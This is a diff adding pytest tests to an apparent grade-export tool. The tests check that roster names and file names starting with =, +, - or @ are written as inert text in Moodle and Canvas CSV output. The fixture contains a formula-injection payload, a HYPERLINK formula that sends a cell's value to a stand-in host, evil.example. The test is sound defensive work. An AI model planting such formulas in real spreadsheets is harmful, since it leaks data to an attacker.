@@ -136,3 +136,26 @@ def test_a_file_that_is_no_roster_is_refused(course):
 def test_no_results_yet_is_one_line_exit_2(tmp_path):
     done = export(copy_course(tmp_path / "empty"), "--format", "canvas")
     assert done.returncode == 2 and "no results yet: grade the class first" in done.stderr
+
+
+@pytest.mark.parametrize("form", ["moodle", "canvas"])
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_inert(course, form):
+    """A roster's names are the students' own words, and a submission's name its file name: a cell that starts
+    with = + - @ would be a live formula in Excel, so it is written with a leading apostrophe."""
+    (course / "evil.csv").write_text('First name,Last name,ID number,Email address\n'
+                                     '"=HYPERLINK(""http://evil.example/?""&F3,""Bob"")",@SUM(1),S002,bob.brown@uni.example\n')
+    results.write(course / "coursework" / "results" / "ex01" / "-A1-B1.json",
+                  Result("-A1-B1", 1.0, 10.0, "", {"test": CellResult(1.0, 10.0)}))
+    assert export(course, "--format", form, "--roster", "evil.csv", "--to", "with.csv").returncode == 0
+    assert export(course, "--format", form, "--to", "without.csv").returncode == 0
+    cells = [c for name in ("with.csv", "without.csv") for row in rows_of(course / name) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    assert any(c.startswith("'=HYPERLINK(") for c in cells) and "'-A1-B1" in cells
+
+
+def test_an_email_like_login_matches_the_names_a_file_can_have(tmp_path):
+    (tmp_path / "roster.csv").write_text("Student,ID,SIS User ID,SIS Login ID,Section\n"
+                                         '"Smith, Alice",5001,S001,alice@uni.example,A\n"Brown, Bob",5002,S002,B.Brown,A\n')
+    matched = lms.match(lms.read_roster(tmp_path / "roster.csv"), ["alice", "alice_uni.example", "b.brown"])
+    assert matched.rows[0][1] == ["alice", "alice_uni.example"] and matched.rows[1][1] == ["b.brown"]
+    assert matched.unmatched == []
